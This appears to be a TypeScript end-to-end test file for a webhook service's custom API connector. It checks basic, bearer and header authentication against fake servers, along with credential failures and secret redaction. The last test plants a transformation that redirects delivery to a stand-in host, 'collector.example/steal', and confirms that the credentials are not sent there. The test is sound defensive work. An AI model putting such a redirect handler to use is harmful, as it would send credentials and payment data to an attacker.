import { Svix } from 'svix';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findEventType } from '../../catalog/index.ts';
import { startTestServer, type TestServer } from '../../server/testing.ts';
import { type CustomApiFake, startCustomApiFake } from './index.ts';
import { customManifest } from './manifest.ts';

const USERNAME = 'switchyard';
const PASSWORD = 'pw-7Hq2LmX9vR4t';
const TOKEN = 'tok_5Kd8Wn3Yp1Zs6Bf';
const HEADER_NAME = 'X-Api-Key';
const HEADER_VALUE = 'key_Jr4Vt9Qm2Xc7';
const HOSTS = {
  basic: 'basic.merchant.example',
  bearer: 'bearer.merchant.example',
  header: 'header.merchant.example',
} as const;
type Scheme = keyof typeof HOSTS;

/**
 * Every field of the card. The API currently requires every credential field of a manifest to be present, so
 * the card carries all of them; `scheme` decides which are sent.
 */
const credentialsFor = (scheme: Scheme, overrides: Record<string, string> = {}) => ({
  scheme,
  username: USERNAME,
  password: PASSWORD,
  token: TOKEN,
  headerName: HEADER_NAME,
  headerValue: HEADER_VALUE,
  ...overrides,
});

/** The reference: the template run as plain JavaScript. */
const runPlainJs = (code: string, eventType: string, example: unknown, url: string) =>
  new Function(`${code}\nreturn handler;`)()({
    eventType,
    payload: structuredClone(example),
    url,
    method: 'POST',
    headers: {},
    env: {},
    cancel: false,
  });

describe('Custom API end to end: card → API → delivery → your API (fake)', () => {
  const fakes = {} as Record<Scheme, CustomApiFake>;
  let server: TestServer;
  let svix: Svix;
  const auth = () => ({
    authorization: `Bearer ${server.operatorTokenValue}`,
    'content-type': 'application/json',
  });

  beforeAll(async () => {
    fakes.basic = await startCustomApiFake({
      auth: { scheme: 'basic', username: USERNAME, password: PASSWORD },
    });
    fakes.bearer = await startCustomApiFake({ auth: { scheme: 'bearer', token: TOKEN } });
    fakes.header = await startCustomApiFake({
      auth: { scheme: 'header', headerName: HEADER_NAME, headerValue: HEADER_VALUE },
    });
    server = await startTestServer('pglite', {
      SWITCHYARD_ALLOW_PRIVATE_NETWORKS: '127.0.0.0/8',
      SWITCHYARD_RETRY_SCHEDULE: '1,1',
      SWITCHYARD_DESTINATION_OVERRIDES: (Object.keys(HOSTS) as Scheme[])
        .map((scheme) => `${HOSTS[scheme]}=${fakes[scheme].url}`)
        .join(','),
    });
    svix = new Svix(server.operatorTokenValue, { serverUrl: server.url });
  });
  afterAll(async () => {
    await server.close();
    for (const fake of Object.values(fakes)) await fake.close();
  });

  async function createCardEndpoint(
    scheme: Scheme,
    credentials: Record<string, string> = credentialsFor(scheme),
  ) {
    const app = await svix.application.create({ name: `Custom ${scheme}` });
    const url = `https://${HOSTS[scheme]}/dodo/events?source=switchyard`;
    const res = await fetch(`${server.url}/api/v1/app/${app.id}/endpoint`, {
      method: 'POST',
      headers: auth(),
      body: JSON.stringify({ url, connector: { id: 'custom', template: 'pass-through', credentials } }),
    });
    expect(res.status).toBe(201);
    return { appId: app.id, url, endpoint: (await res.json()) as Record<string, unknown> & { id: string } };
  }

  const expectedAuth: Record<Scheme, [string, string]> = {
    basic: ['authorization', `Basic ${Buffer.from(`${USERNAME}:${PASSWORD}`).toString('base64')}`],
    bearer: ['authorization', `Bearer ${TOKEN}`],
    header: ['x-api-key', HEADER_VALUE],
  };

  it.each(Object.keys(HOSTS) as Scheme[])(
    'scheme %s: your API receives exactly what the template builds, with that authentication only',
    async (scheme) => {
      const template = customManifest.templates[0]!;
      const { appId, url, endpoint } = await createCardEndpoint(scheme);
      expect(endpoint.eventTypes).toEqual(template.eventTypes);
      expect(endpoint.connector).toMatchObject({ id: 'custom', template: 'pass-through', region: 'default' });
      for (const secret of [PASSWORD, TOKEN, HEADER_VALUE])
        expect(JSON.stringify(endpoint)).not.toContain(secret);
      const fake = fakes[scheme];
      for (const eventType of ['payment.succeeded', 'subscription.active', 'subscription.cancelled']) {
        const example = findEventType(eventType)!.example;
        const before = fake.received.length;
        const message = await svix.message.create(appId, { eventType, payload: example });
        await expect.poll(() => fake.received.length, { timeout: 10_000 }).toBe(before + 1);
        const call = fake.received.at(-1)!;
        const expected = runPlainJs(template.code, eventType, example, url);
        expect(call.method).toBe(expected.method);
        expect(call.path).toBe('/dodo/events?source=switchyard');
        expect(call.body).toEqual(expected.payload);
        const [name, value] = expectedAuth[scheme];
        expect(call.headers[name]).toBe(value);
        if (scheme === 'header') expect(call.headers.authorization).toBeUndefined();
        else expect(call.headers['x-api-key']).toBeUndefined();
        expect(call.headers['webhook-id']).toBe(message.id);
        expect(call.headers['webhook-signature']).toMatch(/^v1,/);
        await expect
          .poll(
            async () =>
              (await svix.messageAttempt.listAttemptedDestinations(appId, message.id)).data[0]?.status,
          )
          .toBe(0);
      }
    },
  );

  it('a wrong password gets your API’s 401, recorded on the attempt and not retried', async () => {
    const { appId } = await createCardEndpoint(
      'basic',
      credentialsFor('basic', { password: 'not-the-password' }),
    );
    const before = fakes.basic.received.length;
    const message = await svix.message.create(appId, {
      eventType: 'payment.succeeded',
      payload: findEventType('payment.succeeded')!.example,
    });
    const attempts = async () =>
      (await svix.messageAttempt.listByMsg(appId, message.id, { withContent: true })).data;
    await expect.poll(async () => (await attempts())[0]?.responseStatusCode, { timeout: 10_000 }).toBe(401);
    expect((await attempts())[0]!.response).toContain('unauthorized');
    await expect
      .poll(
        async () => (await svix.messageAttempt.listAttemptedDestinations(appId, message.id)).data[0]?.status,
      )
      .toBe(2);
    expect(await attempts()).toHaveLength(1);
    expect(fakes.basic.received.length).toBe(before);
  });

  it('unusable credentials for the scheme are a credentials failure, and nothing is sent', async () => {
    const { appId } = await createCardEndpoint('basic', credentialsFor('basic', { username: 'has:colon' }));
    const before = fakes.basic.requests.length;
    const message = await svix.message.create(appId, {
      eventType: 'payment.succeeded',
      payload: findEventType('payment.succeeded')!.example,
    });
    const attempts = async () =>
      (await svix.messageAttempt.listByMsg(appId, message.id, { withContent: true })).data;
    await expect.poll(async () => (await attempts()).length, { timeout: 10_000 }).toBeGreaterThan(0);
    expect((await attempts())[0]!.response).toMatch(/credentials are incomplete: .*colon/);
    expect(fakes.basic.requests.length).toBe(before);
  });

  it('never sends the credentials to a host other than the endpoint’s', async () => {
    const { appId, endpoint } = await createCardEndpoint('bearer');
    const elsewhere = 'function handler(w) { w.url = "https://collector.example/steal"; return w; }';
    await svix.endpoint.transformation.patch(appId, endpoint.id, { code: elsewhere });
    const before = fakes.bearer.requests.length;
    const message = await svix.message.create(appId, {
      eventType: 'payment.succeeded',
      payload: findEventType('payment.succeeded')!.example,
    });
    const attempts = async () =>
      (await svix.messageAttempt.listByMsg(appId, message.id, { withContent: true })).data;
    await expect.poll(async () => (await attempts()).length, { timeout: 10_000 }).toBeGreaterThan(0);
    expect((await attempts())[0]!.response).toMatch(
      /only sent to bearer\.merchant\.example.*not to collector\.example/,
    );
    expect(fakes.bearer.requests.length).toBe(before);
  });
});
